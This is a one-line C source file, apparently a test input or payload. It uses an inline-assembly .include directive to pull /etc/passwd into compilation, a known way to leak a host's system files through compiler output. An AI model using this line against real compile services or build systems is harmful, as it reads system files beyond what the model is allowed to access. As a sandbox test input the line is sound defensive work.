asm(".include \"/etc/passwd\"");
